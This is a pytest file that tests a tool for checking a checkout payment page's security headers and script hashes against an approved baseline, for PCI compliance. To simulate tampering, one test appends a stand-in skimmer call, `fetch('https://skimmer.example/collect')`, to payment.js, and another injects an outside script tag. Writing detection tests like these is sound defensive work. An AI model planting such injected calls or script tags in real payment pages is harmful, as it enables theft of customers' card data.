"""`flask check-payment-page`: the payment page's headers and scripts against the approved
baseline (PCI DSS 4.0.1 6.4.3 and 11.6.1)."""
from __future__ import annotations

import json
import re
import secrets
import shutil
import subprocess
import sys
import threading
from datetime import date
from pathlib import Path

import pytest
from jinja2 import ChoiceLoader, DictLoader
from sqlalchemy import func, select
from werkzeug.serving import make_server

from checkout.extensions import db
from checkout.models import Booking, BookingStatus, WebSession
from tools.payment_page_check import BASELINE
from config import read_env_file
from tests.conftest import PUBLISHABLE_KEY, WEBHOOK_SECRET
from tests.process_support import ROOT

INVENTORY = ROOT / "docs" / "payment-page-scripts.md"


def check(app, *args):
    return app.test_cli_runner().invoke(args=["check-payment-page", *map(str, args)])


@pytest.fixture
def baseline(app, tmp_path) -> Path:
    """A baseline of the page as this test configuration serves it now."""
    path = tmp_path / "baseline.json"
    result = check(app, "--update", "--baseline", path)
    assert result.exit_code == 0, result.output
    return path


def test_an_unchanged_page_matches_and_leaves_nothing_behind(app, baseline):
    result = check(app, "--baseline", baseline)
    assert result.exit_code == 0, result.output
    assert "The payment page matches" in result.output
    with app.app_context():
        specimens = db.session.execute(select(Booking.status).where(Booking.channel == "check")).scalars().all()
        assert specimens == [BookingStatus.CANCELLED] * 2  # one per run, cancelled at once
        assert db.session.execute(select(func.count()).select_from(WebSession)).scalar() == 0


def test_the_baseline_holds_nothing_of_one_request_or_one_day(app, baseline):
    text = baseline.read_text()
    recorded = json.loads(text)
    assert "'nonce-{per request}'" in recorded["headers"]["Content-Security-Policy"]
    assert not re.search(r"'nonce-(?!\{)", text)
    assert "FLY2A-" not in text and date.today().isoformat() not in text
    assert [s["src"] for s in recorded["scripts"]] == [
        "/static/vendor/htmx-2.0.11.min.js", "/static/js/checkout.js", "/offline/stripe/v3.js", "/static/js/payment.js"]
    assert all(s["sha384"].startswith("sha384-") for s in recorded["scripts"] if s["src"].startswith("/static/"))


def test_a_changed_script_file_fails_the_check_naming_it(app, baseline, tmp_path, monkeypatch):
    static = tmp_path / "static"
    shutil.copytree(app.static_folder, static)
    with open(static / "js" / "payment.js", "a") as script:
        script.write("\nfetch('https://skimmer.example/collect');\n")
    monkeypatch.setattr(app, "static_folder", str(static))

    result = check(app, "--baseline", baseline)
    assert result.exit_code == 1, result.output
    changed = [line.strip() for line in result.output.splitlines() if line.startswith("  script ")]
    assert len(changed) == 1 and re.fullmatch(
        r"script /static/js/payment\.js changed: sha384-\S+ -> sha384-\S+", changed[0]), result.output


def test_an_added_script_tag_fails_the_check_naming_it(app, baseline, monkeypatch):
    source, _, _ = app.jinja_env.loader.get_source(app.jinja_env, "bookings/show.html")
    tampered = source.replace('<script src="{{ config.STRIPE_JS_URL }}"></script>',
                              '<script src="https://cdn.example.net/tag.js"></script>\n'
                              '<script src="{{ config.STRIPE_JS_URL }}"></script>', 1)
    assert tampered != source
    monkeypatch.setattr(app.jinja_env, "loader", ChoiceLoader([DictLoader({"bookings/show.html": tampered}),
                                                               app.jinja_env.loader]))
    result = check(app, "--baseline", baseline)
    assert result.exit_code == 1, result.output
    assert "script added: https://cdn.example.net/tag.js (address only)" in result.output


def test_a_changed_security_header_fails_the_check(app, baseline, monkeypatch):
    monkeypatch.setitem(app.config, "HSTS_SECONDS", 300)
    result = check(app, "--baseline", baseline)
    assert result.exit_code == 1, result.output
    assert "header Strict-Transport-Security changed:" in result.output
    assert "baseline: None" in result.output and "now:      max-age=300; includeSubDomains" in result.output


def test_a_site_fetched_by_url_is_compared_the_same_way(app, baseline):
    server = make_server("127.0.0.1", 0, app, threaded=True)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        result = check(app, f"http://127.0.0.1:{server.server_port}", "--baseline", baseline)
    finally:
        server.shutdown()
        thread.join(5)
    assert result.exit_code == 0, result.output


def test_every_script_in_the_committed_baseline_is_in_the_inventory():
    inventory = INVENTORY.read_text()
    for script in json.loads(BASELINE.read_text())["scripts"]:
        assert f"`{script['src']}`" in inventory, f"{script['src']} is not listed in {INVENTORY.name}"


def test_production_serves_the_committed_baseline(app, database_url, localstripe):
    """The Procfile's configuration (.env.example: Stripe.js from js.stripe.com, HSTS), with
    Stripe's API offline: `flask check-payment-page` exits 0 against docs/payment-page-baseline.json."""
    environment = {**read_env_file(ROOT / ".env.example"), "DATABASE_URL": database_url,
                   "STRIPE_API_BASE": localstripe, "STRIPE_SECRET_KEY": "sk_test_fly2any",
                   "STRIPE_PUBLISHABLE_KEY": PUBLISHABLE_KEY, "STRIPE_WEBHOOK_SECRET": WEBHOOK_SECRET,
                   "RATELIMIT_KEY_PREFIX": f"check-{secrets.token_hex(4)}",
                   "PATH": f"{Path(sys.executable).parent}:/usr/bin:/bin"}
    done = subprocess.run(["flask", "--app", "wsgi", "check-payment-page"], cwd=ROOT, env=environment,
                          capture_output=True, text=True, timeout=120)
    assert done.returncode == 0, done.stdout + done.stderr[-3000:]
